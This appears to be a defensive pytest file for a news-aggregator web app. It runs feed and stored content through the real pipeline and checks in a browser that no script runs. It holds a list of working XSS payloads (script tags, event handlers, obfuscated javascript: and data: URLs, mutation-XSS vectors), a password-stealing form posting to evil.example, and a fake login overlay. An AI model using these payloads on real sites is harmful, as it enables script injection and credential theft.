"""Rendered pages run no script, whatever the feeds said: a real browser watches every page.

Hostile markup arrives two ways: through the real refresh (feed, extraction, sanitizer, store)
from the fixture server, and written straight into the store's plain-text fields. A page fails
if any script runs (a page error, a dialog, or the payloads' `__xss` marker), if the browser
reports a Content-Security-Policy violation (something got as far as being blocked), or if a
form, <base>, <meta refresh>, frame, inline handler, javascript: link or fixed overlay from the
payloads is in the DOM.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from browser import chromium, serve
from fixture_server import FixtureServer
from newsdesk.models import NewArticle
from newsdesk.refresh import refresh_all
from newsdesk.settings import Settings
from newsdesk.store import FetchOutcome, open_store
from newsdesk.web.app import create_app
from site_data import execute

RAN = "top.__xss=1;alert(1)"
# Each payload carries the word "hostile" so that a search finds the articles.
MARKUP = [
    f"<script>{RAN}</script>",
    f'<img src="x" onerror="{RAN}">',
    f'<svg onload="{RAN}"><script>{RAN}</script></svg>',
    f"<svg><style><img src=x onerror={RAN}></style></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RAN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f'<a href="javascript:{RAN}">js</a>',
    f'<a href="JaVaScRiPt:{RAN}">case</a>',
    f'<a href="java\tscript:{RAN}">tab</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RAN}">entities</a>',
    f'<a href="&#x6A;avascript&colon;{RAN}">hex</a>',
    f'<a href=" javascript:{RAN}">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    f'<iframe src="data:text/html,<script>{RAN}</script>"></iframe>',
    f'<object data="javascript:{RAN}"></object><embed src="javascript:{RAN}">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/steal" method="post" id="evil-form">'
    '<input name="password" type="password"><button>Log in again</button></form>',
    '<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;'
    'background:white;z-index:99999">Your session expired</div>',
    f'<p style="background:url(javascript:{RAN})">css</p>',
    f'<details open ontoggle="{RAN}">d</details>',
    f'<input autofocus onfocus="{RAN}">',
    f'<video><source onerror="{RAN}"></video>',
    f'<link rel="stylesheet" href="javascript:{RAN}">',
]
TEXT_PAYLOADS = [
    f"<script>{RAN}</script> hostile title",
    f'"><img src=x onerror={RAN}> hostile',
    f"</title><script>{RAN}</script> hostile",
    f"<svg/onload={RAN}> hostile",
    f"javascript:{RAN} hostile",
]


def _rss(base: str) -> str:
    items = []
    for n, markup in enumerate(MARKUP):
        items.append(
            f"<item><title><![CDATA[{TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)]} {n}]]></title>"
            f"<link>{base}/page/{n}</link><guid>hostile-{n}</guid>"
            f"<description><![CDATA[hostile summary {markup}]]></description>"
            f"<content:encoded><![CDATA[<p>hostile content {n}</p>{markup}<p>after</p>]]>"
            "</content:encoded>"
            f"<dc:creator><![CDATA[<img src=x onerror={RAN}> hostile author]]></dc:creator>"
            f'<enclosure url="javascript:{RAN}" type="image/jpeg" length="1"/>'
            "<pubDate>Mon, 02 Jan 2006 15:04:05 GMT</pubDate></item>"
        )
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:content='
        '"http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title><![CDATA[<script>{RAN}</script> Hostile Outlet]]></title>"
        f"<link>{base}/</link><description>d</description>{''.join(items)}</channel></rss>"
    )


def _page(n: int) -> str:
    markup = MARKUP[n % len(MARKUP)]
    body = " ".join(["This hostile article body has enough words to be extracted."] * 20)
    return (
        f"<html><head><title>hostile page {n}</title>{MARKUP[15]}{MARKUP[16]}</head><body>"
        f"<article><h1>hostile page {n}</h1><p>{body}</p>{markup}<p>{body}</p></article>"
        "</body></html>"
    )


@pytest.fixture
def hostile_site(settings: Settings, http_server: FixtureServer) -> dict[str, Any]:
    """Hostile articles stored through the real refresh, plus raw ones written straight in."""
    http_server.route("/feed.xml", _rss(http_server.url("")), content_type="application/rss+xml")
    for n in range(len(MARKUP)):
        http_server.route(f"/page/{n}", _page(n), content_type="text/html")
    store = open_store(settings.database_url)
    try:
        fed = store.add_source(http_server.url("/feed.xml"))
        # In a thread of its own: Playwright's sync API may hold this thread's event loop.
        with ThreadPoolExecutor(1) as pool:
            results = pool.submit(asyncio.run, refresh_all(store, settings)).result()
        assert [r.error for r in results] == [""], results
        raw = store.add_source("https://raw.example/feed", title=f"<script>{RAN}</script> Raw")
        now = datetime.now(UTC).replace(microsecond=0)
        direct = tuple(
            NewArticle(
                source_id=raw.id, guid=f"raw-{n}", url=f"javascript:{RAN}",
                canonical_url=f"https://raw.example/{n}", title=text, summary=text,
                text=f"hostile text {text}", author=text, published=now - timedelta(minutes=n),
                extraction="ok", section="world", image=f"javascript:{RAN}",
            )
            for n, text in enumerate(TEXT_PAYLOADS)
        )  # fmt: skip
        store.save_outcome(
            FetchOutcome(raw.id, now, 200, "", False, len(direct), 10, 900, now, direct)
        )
        articles = [a for a in store.latest_articles(500)]
    finally:
        store.close()
    assert len(articles) >= len(MARKUP) + len(TEXT_PAYLOADS)
    execute(
        settings.database_url,
        "INSERT INTO stories (id, title, lead_article_id, section, first_seen, last_seen,"
        " article_count, outlet_count, score) VALUES (9999, ?, ?, 'world', ?, ?, ?, 2, 99.0)",
        (TEXT_PAYLOADS[0], articles[0].id, now.isoformat(timespec="microseconds"),
         now.isoformat(timespec="microseconds"), len(articles)),
    )  # fmt: skip
    execute(settings.database_url, "UPDATE articles SET story_id = 9999, section = 'world'")
    return {"articles": [a.id for a in articles], "sources": [fed.id, raw.id]}


@pytest.fixture
def base_url(settings: Settings, hostile_site: dict[str, Any]) -> Iterator[str]:
    with serve(create_app(settings, refresh=False)) as url:
        yield url


@pytest.fixture
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => {
  window.__violations.push(e.violatedDirective + ' ' + e.blockedURI);
});
"""
# What the payloads could have left in the DOM, if the sanitizer and the templates let them.
DOM_CHECK = """() => {
  const bad = [];
  const own = new URL(document.baseURI).origin === location.origin;
  if (!own || document.querySelector('base')) bad.push('base');
  const ownScript = location.origin + '/static/site.js';
  for (const s of document.scripts) if (s.src !== ownScript) bad.push('script');
  if (document.querySelector('meta[http-equiv]')) bad.push('meta http-equiv');
  if (document.querySelector('iframe, frame, object, embed, applet, link[href^="javascript"]'))
    bad.push('frame/object');
  for (const f of document.forms) {
    const action = new URL(f.action, location.href);
    if (action.origin !== location.origin || f.closest('.article-text, .headline, .meta'))
      bad.push('form ' + f.action);
  }
  if (document.getElementById('evil-form') || document.querySelector('input[type=password]'))
    bad.push('password form');
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) bad.push('handler ' + a.name);
      if (el.matches('link[rel=icon][href="data:,"]')) continue;  // the site's own empty icon
      const scheme = /^\\s*(javascript|data|vbscript):/i;
      if (scheme.test(a.value)) bad.push('url ' + a.name + '=' + a.value.slice(0, 80));
    }
    const style = getComputedStyle(el);
    if (style.position === 'fixed' && el.closest('main')) bad.push('fixed ' + el.tagName);
  }
  if (document.getElementById('overlay')) bad.push('overlay');
  if (window.__xss) bad.push('script ran');
  return bad;
}"""


def test_hostile_articles_run_no_script(
    hostile_site: dict[str, Any], base_url: str, browser: Any
) -> None:
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    errors: list[str] = []
    dialogs: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    paths = [
        "/", "/section/world", "/story/9999", "/search?q=hostile", "/search?q=hostile&sort=time",
        *(f"/source/{s}" for s in hostile_site["sources"]),
        *(f"/article/{a}" for a in hostile_site["articles"]),
    ]  # fmt: skip
    visited = 0
    for path in paths:
        response = page.goto(base_url + path)
        assert response is not None and response.status == 200, path
        page.wait_for_load_state("load")
        assert "hostile" in page.content().lower(), f"{path} shows none of the hostile articles"
        assert page.evaluate(DOM_CHECK) == [], path
        assert page.evaluate("window.__violations") == [], path
        visited += 1
    page.wait_for_timeout(300)  # let any late handler (autofocus, media errors) fire
    assert errors == [] and dialogs == []
    assert visited == len(paths) >= 5 + len(MARKUP)
    context.close()
